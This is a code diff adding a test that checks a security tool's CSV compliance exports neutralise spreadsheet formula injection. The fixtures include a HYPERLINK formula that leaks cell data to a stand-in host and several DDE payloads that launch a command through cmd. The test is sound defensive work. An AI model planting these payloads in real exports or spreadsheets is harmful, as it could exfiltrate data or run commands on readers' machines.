@@ -3,6 +3,7 @@ import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, syml
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { type AuditEntry, computeAuditHash } from '@palisade/schema';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runVerifyExport, trustedKeyFingerprint } from '../src/cli/verify-export.command.js';
 import { sha256File, signedManifestBytes } from '../src/exports/bundle-format.js';
@@ -11,6 +12,12 @@ import { type RunningDetector, startDetector } from './support/detector.harness.
 import { POISONED_ADD, TelemetryBuilder } from './support/telemetry.builder.js';
 
 type Record = { id: string; path?: string; files: { path: string }[] };
+
+// Names a monitored server chooses, written as spreadsheet formulas (OWASP "CSV injection").
+const FORMULA_TOOL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
+const FORMULA_SESSION = "=cmd|' /C calc'!A0";
+const FORMULA_CLIENT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const FORMULA_TARGET = "-2+3+cmd|' /C calc'!A0";
 
 describe('compliance export and verify-export', () => {
   let detector: RunningDetector;
@@ -27,6 +34,11 @@ describe('compliance export and verify-export', () => {
     await detector.api('PATCH', `/api/incidents/${incident.id}`, { body: { note: 'confirmed malicious' } });
     await detector.api('POST', '/api/tools/math/add/release', { body: { reason: 'test' } });
     await detector.api('POST', '/api/tools/math/add/quarantine', { body: { reason: 'test again' } });
+    // A server whose tool, session and client names are formulas, and an audit entry whose target is one.
+    const hostile = new TelemetryBuilder('math', FORMULA_SESSION);
+    await detector.publish([hostile.toolsList([{ ...POISONED_ADD, name: FORMULA_TOOL }]), hostile.call(FORMULA_TOOL, { a: 1, b: 2 }, 'ok', { 'palisade.client.name': FORMULA_CLIENT })]);
+    await detector.waitFor(async () => (await detector.api<{ items: unknown[] }>('GET', `/api/alerts?tool=${encodeURIComponent(FORMULA_TOOL)}`)).body.items.length > 0, 'an alert on the formula-named tool');
+    await detector.store.audit.append([{ ts: new Date().toISOString(), actor: { type: 'system', id: 'test' }, action: 'test.formula', target: FORMULA_TARGET, details: {} }]);
     const from = new Date(Date.now() - 3600_000).toISOString();
     const to = new Date(Date.now() + 1000).toISOString();
     for (const format of ['ndjson', 'csv']) {
@@ -251,6 +263,23 @@ describe('compliance export and verify-export', () => {
     // The run just before it ends at the same head.
     const previous = await detector.api<Record & { auditHead: string }>('POST', '/api/exports', { body: { from: '2020-01-01', to: from } });
     expect(previous.body.auditHead).toBe(before.hash);
+  });
+
+  it('writes no CSV cell that a spreadsheet would run as a formula, and keeps the text for whoever reads it back', () => {
+    const cells = (name: string) => parse(readFileSync(path.join(bundles.csv!, name)), { columns: true }) as { [column: string]: string }[];
+    const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+    for (const name of ['events.csv', 'alerts.csv', 'incidents.csv', 'audit.csv']) {
+      for (const row of cells(name)) for (const [column, value] of Object.entries(row)) expect(value, `${name} ${column}`).not.toMatch(formula);
+    }
+    const event = cells('events.csv').find((row) => row['gen_ai.tool.name'] === `'${FORMULA_TOOL}`);
+    expect(event).toMatchObject({ 'mcp.session.id': `'${FORMULA_SESSION}`, 'palisade.client.name': `'${FORMULA_CLIENT}` });
+    expect(JSON.parse(event!.json!)).toMatchObject({ 'gen_ai.tool.name': FORMULA_TOOL, 'mcp.session.id': FORMULA_SESSION });
+    expect(cells('alerts.csv').some((row) => row.tool === `'${FORMULA_TOOL}` && row.sessionId === `'${FORMULA_SESSION}`)).toBe(true);
+    expect(cells('incidents.csv').some((row) => row.tool === `'${FORMULA_TOOL}`)).toBe(true);
+    expect(cells('audit.csv').map((row) => row.target)).toContain(`'${FORMULA_TARGET}`);
+    // Guarded cells are quoted too; the NDJSON bundle keeps every value as captured.
+    expect(readFileSync(path.join(bundles.csv!, 'audit.csv'), 'utf8')).toContain(`"'${FORMULA_TARGET}"`);
+    expect(readFileSync(path.join(bundles.ndjson!, 'audit.ndjson'), 'utf8')).toContain(`"target":${JSON.stringify(FORMULA_TARGET)}`);
   });
 
   it('with the install key pinned, refuses a bundle re-signed by anyone else after its content was changed', async () => {
